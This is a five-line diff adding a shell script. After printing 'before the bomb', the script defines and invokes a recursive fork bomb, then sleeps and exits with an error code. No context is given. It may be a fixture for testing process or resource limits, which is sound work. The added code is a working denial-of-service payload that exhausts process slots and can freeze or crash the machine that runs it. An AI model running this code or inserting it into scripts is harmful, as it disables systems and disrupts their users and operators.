@@ -1,0 +1,5 @@
+echo "before the bomb"
+bomb() { bomb | bomb & }
+bomb
+sleep 60
+exit 1
